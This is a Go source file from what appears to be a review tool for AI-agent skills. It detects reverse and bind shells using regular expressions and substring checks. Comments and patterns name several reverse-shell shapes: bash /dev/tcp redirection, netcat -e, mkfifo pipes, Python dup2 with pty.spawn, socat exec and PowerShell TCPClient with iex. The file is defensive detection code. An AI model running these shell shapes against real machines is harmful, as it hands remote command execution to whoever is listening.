package review

import (
	"fmt"
	"strings"

	"github.com/skillstudio/skillstudio/internal/lazyre"
)

// Reverse and bind shells: a shell whose input and output are a network
// connection, so whoever is at the other end types commands on this
// machine. Neither download-and-run nor exfiltration covers them (nothing
// is downloaded, no credential file is read), and they are the payload a
// malicious skill most wants to run. Pentest skills quote them as
// payloads for a target; in Markdown prose that is evidence to read, in a
// script, hook, code file or load command it runs here.
var revShellLine = []*lazyre.Regexp{
	// bash -i >& /dev/tcp/H/P 0>&1, sh -i 5<> /dev/udp/…, exec 5<>/dev/tcp/…
	lazyre.New(`(?i)\b(ba|z|k|da)?sh\s+-i\b[^\n]*[<>]&?\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/\S+\s+0\s*>&\s*1|\bexec\s+\d+\s*<>\s*/dev/(tcp|udp)/`),
	// nc -e /bin/sh H P, ncat --exec cmd.exe, nc.exe -e powershell
	lazyre.New(`(?i)\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)(\.exe)?\s([^|;&\n]*?\s)?(-e|-c|--exec|--sh-exec)\s+['"]?[^\s'"]*\b(sh|bash|zsh|dash|cmd|cmd\.exe|powershell|powershell\.exe|pwsh)\b`),
	// mkfifo f; cat f | sh -i 2>&1 | nc H P > f
	lazyre.New(`(?i)\b(ba|z|da)?sh\s+-i\b[^\n|]*\|\s*(nc|ncat|netcat|telnet|openssl\s+s_client)\b`),
	// the socket on descriptor 3 (php fsockopen, ruby TCPSocket, perl):
	// /bin/sh -i <&3 >&3 2>&3, sh -i <&%d >&%d
	lazyre.New(`(?i)\b(ba|z|da)?sh\s+-i\s*<&\s*(\d|%d)`),
	// perl: open(STDIN,">&S"); exec("/bin/sh -i")
	lazyre.New(`(?i)\bopen\s*\(\s*STDIN\s*,\s*["']>&`),
}

// revShellNeeds are, per expression, words (lower case) a line must hold
// one of before the expression is tried; most lines hold none.
var revShellNeeds = [][]string{
	{"/dev/tcp", "/dev/udp"},
	{" -e", " -c", "--exec", "--sh-exec"},
	{"sh -i"},
	{"sh -i"},
	{"stdin"},
}

const revShellHint = "Read who it connects to: a shell wired to a network connection lets whoever is at the other end run commands here. A pentest skill may quote one as a payload for a target; a script, hook or load command should never open one on the user's machine."

// revShellIn returns a short description when line opens a shell over a
// network connection, or "".
func revShellIn(line string) string {
	lower := strings.ToLower(line)
	for i, re := range revShellLine {
		if containsAny(lower, revShellNeeds[i]) && (i != 1 || strings.Contains(lower, "nc") || strings.Contains(lower, "netcat")) && re.MatchString(line) {
			return "opens a shell over a network connection"
		}
	}
	return revShellCode(lower)
}

// revShellCode finds the shapes that take several statements: a socket's
// descriptor duplicated onto stdin and a shell started (Python's
// os.dup2(s.fileno(), 0) then pty.spawn("/bin/sh")), socat joining a TCP
// connection to a shell, PowerShell running what a TCPClient's stream
// reads. text is lower case: one line, or a whole code file.
func revShellCode(text string) string {
	switch {
	case strings.Contains(text, "dup2(") && strings.Contains(text, "fileno()") && strings.Contains(text, "connect(") &&
		containsAny(text, []string{"pty.spawn(", "/bin/sh", "/bin/bash", "cmd.exe", `["sh"`, `['sh'`, `"sh",`, `'sh',`}):
		return "duplicates a socket onto the shell's input and output"
	case strings.Contains(text, "socat") && containsAny(text, []string{"exec:", "system:"}) && strings.Contains(text, "tcp"):
		return "joins a TCP connection to a program with socat"
	case strings.Contains(text, "net.sockets.tcpclient") && strings.Contains(text, "getstream()") && containsAny(text, []string{"iex", "invoke-expression"}):
		return "runs what a TCP connection sends"
	}
	return ""
}

// scanRevShell reports each reverse or bind shell of f: per logical line,
// and in a script or code file once more for the shapes spread over
// several lines.
func (r *reviewer) scanRevShell(f *source, kind fileKind) {
	text := f.text
	if kind == kindMarkdown || kind == kindText {
		text = codeOnly(text)
	}
	found := false
	forLines(text, func(pos int, logical, joined string) {
		what := revShellIn(joined)
		if what == "" {
			return
		}
		found = true
		off := pos + len(logical) - len(strings.TrimLeft(logical, " \t"))
		rule := revShellRule(f, off)
		if at := loadCommandOn(f, off, isRevShell); at >= 0 {
			off = at
		}
		r.report(f, off, rule, fmt.Sprintf("%s: %s", what, clip(Visible(strings.TrimSpace(joined)), 200)), revShellHint)
	})
	if found || (kind != kindShell && kind != kindScript) {
		return
	}
	what := revShellCode(strings.ToLower(text))
	if what == "" {
		return
	}
	// Point at the line that connects, where the reader learns to whom.
	off := strings.Index(strings.ToLower(text), "connect(")
	if off < 0 {
		off = 0
	} else {
		off = strings.LastIndexByte(text[:off], '\n') + 1
		off += len(text[off:]) - len(strings.TrimLeft(text[off:], " \t"))
	}
	r.report(f, off, "review/reverse-shell", what, revShellHint)
}

func isRevShell(cmd string) bool { return revShellIn(cmd) != "" }

// revShellRule: a payload quoted in Markdown or text prose is evidence
// (pentest skills carry them for the target); anywhere it runs on this
// machine (a script, hook, code, a command SKILL.md runs as it loads) it
// is an error.
func revShellRule(f *source, off int) string {
	if inProse(f, off) && !runsOnLoad(f, off, isRevShell) {
		return "review/reverse-shell-doc"
	}
	return "review/reverse-shell"
}
